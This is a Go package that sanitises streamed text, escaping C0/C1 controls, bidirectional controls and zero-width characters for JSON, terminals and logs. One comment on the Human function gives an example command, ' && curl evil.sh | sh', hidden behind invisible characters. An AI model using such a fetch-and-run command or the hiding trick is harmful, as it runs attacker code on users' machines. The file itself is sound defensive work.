// Package safetext escapes what a terminal may act on or a reader cannot
// see in text that comes from a stream: the one rule that the command's
// outputs and the server's JSON share.
package safetext

import (
	"bytes"
	"io"
	"strings"
	"unicode/utf8"
)

const hex = "0123456789abcdef"

// WriteU writes r as \uXXXX, or as a surrogate pair of them above U+FFFF,
// which is also how JSON spells it.
func WriteU(b interface{ WriteString(string) (int, error) }, r rune) {
	if r > 0xffff {
		r -= 0x10000
		WriteU(b, 0xd800+(r>>10))
		WriteU(b, 0xdc00+(r&0x3ff))
		return
	}
	var u [6]byte
	u[0], u[1] = '\\', 'u'
	for i, shift := 2, 12; shift >= 0; i, shift = i+1, shift-4 {
		u[i] = hex[(r>>shift)&0xf]
	}
	b.WriteString(string(u[:]))
}

// Unsafe reports the code points above the C0 controls that a terminal
// may act on or that a reader cannot see: DEL, the C1 controls, the
// bidirectional controls, and the default-ignorable code points of
// Unicode (DerivedCoreProperties.txt, Default_Ignorable_Code_Point).
func Unsafe(r rune) bool {
	switch {
	case r < 0x7f:
		return false
	case r <= 0x9f: // DEL and C1
		return true
	}
	for _, rg := range ignorable {
		if r < rg[0] {
			return false
		}
		if r <= rg[1] {
			return true
		}
	}
	return false
}

// ignorable lists the Default_Ignorable_Code_Point ranges of Unicode 15
// (the bidi controls among them), in order.
var ignorable = [][2]rune{
	{0x00ad, 0x00ad}, {0x034f, 0x034f}, {0x061c, 0x061c}, {0x115f, 0x1160},
	{0x17b4, 0x17b5}, {0x180b, 0x180f}, {0x200b, 0x200f}, {0x202a, 0x202e},
	{0x2060, 0x206f}, {0x3164, 0x3164}, {0xfe00, 0xfe0f}, {0xfeff, 0xfeff},
	{0xffa0, 0xffa0}, {0xfff0, 0xfff8}, {0x1bca0, 0x1bca3}, {0x1d173, 0x1d17a},
	{0xe0000, 0xe0fff},
}

// EscapeJSON rewrites JSON text so that a terminal shows it as it is: the
// characters Unsafe reports (C1 controls, DEL, bidirectional controls,
// invisible code points) become \uXXXX escapes, which inside a string are
// the same JSON value. A tab or a carriage return, which valid JSON holds
// only as white space between tokens (and which an SSE client takes for
// the end of a line), becomes a space; the other C0 controls but the
// newline, invalid anywhere in JSON text, become \u00XX; invalid UTF-8
// becomes \ufffd. Valid JSON stays valid and means the same. It returns p
// itself when there is nothing to escape.
func EscapeJSON(p []byte) []byte {
	i := 0
	for i < len(p) {
		c := p[i]
		if c < utf8.RuneSelf {
			if c < 0x20 && c != '\n' || c == 0x7f {
				break
			}
			i++
			continue
		}
		r, size := utf8.DecodeRune(p[i:])
		if r == utf8.RuneError && size == 1 || Unsafe(r) {
			break
		}
		i += size
	}
	if i == len(p) {
		return p
	}
	var b bytes.Buffer
	b.Grow(len(p) + 16)
	b.Write(p[:i])
	for i < len(p) {
		r, size := utf8.DecodeRune(p[i:])
		switch {
		case r == utf8.RuneError && size == 1:
			b.WriteString(`\ufffd`)
		case r == '\t' || r == '\r':
			b.WriteByte(' ')
		case r < 0x20 && r != '\n', r == 0x7f, Unsafe(r):
			WriteU(&b, r)
		default:
			b.Write(p[i : i+size])
		}
		i += size
	}
	return b.Bytes()
}

// Keep says which layout characters Human keeps as they are.
type Keep uint8

// What Human may keep.
const (
	// KeepNewlines keeps "\n" (and U+2028, U+2029, which become "\n") as
	// line breaks; without it they become the two characters \n.
	KeepNewlines Keep = 1 << iota
	// KeepTabs keeps a tab; without it a tab becomes four spaces.
	KeepTabs
)

// Human makes a string from a stream safe to show to a person, on a
// terminal, in an SVG or in an editor: C0 and C1 controls (ESC among
// them), DEL, the bidirectional controls that can disguise text, and the
// invisible (default-ignorable) code points, such as zero-width
// characters, the soft hyphen and the Unicode tag characters, that can make
// "ls" hide " && curl evil.sh | sh", become visible escapes like \x1b or
// \u200b; invalid UTF-8 becomes U+FFFD. keep says what of the layout stays.
func Human(s string, keep Keep) string {
	clean := true
	for _, r := range s {
		if r == utf8.RuneError || r < 0x20 && !(r == '\t' && keep&KeepTabs != 0) || Unsafe(r) || r == '\u2028' || r == '\u2029' {
			clean = false
			break
		}
	}
	if clean {
		return s
	}
	var b strings.Builder
	b.Grow(len(s) + 8)
	for i := 0; i < len(s); {
		r, size := utf8.DecodeRuneInString(s[i:])
		i += size
		switch {
		case r == utf8.RuneError && size == 1:
			b.WriteRune(utf8.RuneError)
		case r == '\n' || r == '\u2028' || r == '\u2029':
			if keep&KeepNewlines != 0 {
				b.WriteByte('\n')
			} else {
				b.WriteString(`\n`)
			}
		case r == '\t' && keep&KeepTabs != 0:
			b.WriteByte('\t')
		case r == '\t':
			b.WriteString("    ")
		case r < 0x20 || r == 0x7f:
			b.WriteString(`\x`)
			b.WriteByte(hex[r>>4])
			b.WriteByte(hex[r&0xf])
		case Unsafe(r):
			WriteU(&b, r)
		default:
			b.WriteRune(r)
		}
	}
	return b.String()
}

// Sanitize is Human with newlines kept (keepNewlines) or escaped, tabs
// made spaces: what the command and the transcript show people.
func Sanitize(s string, keepNewlines bool) string {
	keep := Keep(0)
	if keepNewlines {
		keep = KeepNewlines
	}
	return Human(s, keep)
}

// OneLine is Human(s, 0) cut to max runes: max−1 of them and "…" when s is
// longer.
func OneLine(s string, max int) string {
	s = Human(s, 0)
	if utf8.RuneCountInString(s) <= max {
		return s
	}
	n := 0
	for i := range s {
		if n == max-1 {
			return s[:i] + "…"
		}
		n++
	}
	return s
}

// Writer writes what it is given to w line by line, each line as Human
// (0) makes it: for a log that takes strings from a stream or a client.
// A write is one write to w.
type Writer struct{ W io.Writer }

func (l Writer) Write(p []byte) (int, error) {
	var b strings.Builder
	for line := range strings.SplitAfterSeq(string(p), "\n") {
		body, nl := strings.CutSuffix(line, "\n")
		b.WriteString(Human(body, 0))
		if nl {
			b.WriteByte('\n')
		}
	}
	if _, err := io.WriteString(l.W, b.String()); err != nil {
		return 0, err
	}
	return len(p), nil
}
